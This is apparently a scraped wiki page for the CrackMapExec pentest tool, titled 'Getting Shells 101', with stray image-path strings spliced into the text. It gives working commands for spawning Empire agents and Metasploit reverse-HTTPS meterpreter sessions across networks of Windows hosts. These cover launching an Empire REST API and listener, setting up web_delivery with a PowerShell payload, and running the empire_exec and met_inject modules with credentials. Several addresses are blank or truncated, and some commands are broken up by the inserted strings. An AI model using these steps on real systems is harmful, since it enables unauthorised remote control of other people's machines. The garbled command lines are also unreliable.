Comment on page

Getting Shells 101

Getting Shells 101

We all love shells and that's why CME makes it as easy as possible to get them! There really is something magical about shelling a /24

Empire Agent

Use the new Empire in Python3
We can use the empire_exec module to execute an Empire Agent's initial stager. In the background, the module connects to Empire's RESTful API, generates a launcher for the specified listener and executes it.
  • First setup the rest API:
#~ python powershell-empire --rest --user empireadmin --pass Password123![*] Loading modules from: /home/byt3bl33d3r/Tools/Empire/lib/modules/
* Starting Empire RESTful API on port: 1337
* RESTful API token: l5l051eqiqe70c75dis68qjheg7b19di7n8auzml
* Running on (Press CTRL+C to quit)
  • Second setup a listener:
(Empire: listeners) > set Name test
(Empire: listeners) > set Host
(Empire: listeners) > set Port 9090
(Empire: listeners) > set CertPath data/empire.pem
(Empire: listeners) > run
(Empire: listeners) > list
[*] Active listeners:
ID Name Host Type Delay/Jitter KillDate Redirect Target
-- ---- ---- --- --- --- ---
1 test native 5/0.0
(Empire: listeners) >
The username and password that CME uses to authenticate to Empire's RESTful API are stored in the cme.conf file located at ~/.cme/cme.conf:
  • Then just run the empire_exec module and specify the listener name:
#~ crackmapexec -u username -p password -M empire_exec -o LISTENER=test


We can use the metinject module launch a meterpreter using Invoke-MetasploitPayload Invoke-MetasploitPayload.ps1 script.
On your Metasploit instance, run the following commands
use exploit/multi/script/web_delivery
The SRVHOST and SRVPORT variables are used for running the webserver to host the script
set SRVHOST 10.211.55
set SRVPORT 8443
The target variable determines what type of script we're using. 2 is for PowerShell
set target 2
Pick your payload. In this case, we'll use a reverse https meterpreter payloadset payload windows/meterpreter/reverse_https
set LHOST 10.211.55
set LPORT 443
Run the exploit
run -j
Once run, the web_delivery module will spin up the webserver to host the script and reverse listener for our meterpreter session.
msf exploit(web_delivery) > run -j
[*] Exploit running as background job.
[*] Started HTTPS reverse handler on
[*] Using URL:
[*] Local IP:
[*] Server started.
  • Then just run the met_inject module and specify theLHOST and LPORT values:#~ crackmapexec -u username -p password -Mmet_inject -o SRVHOST= SRVPORT=8443RAND=eYEssEwv2D SSL=http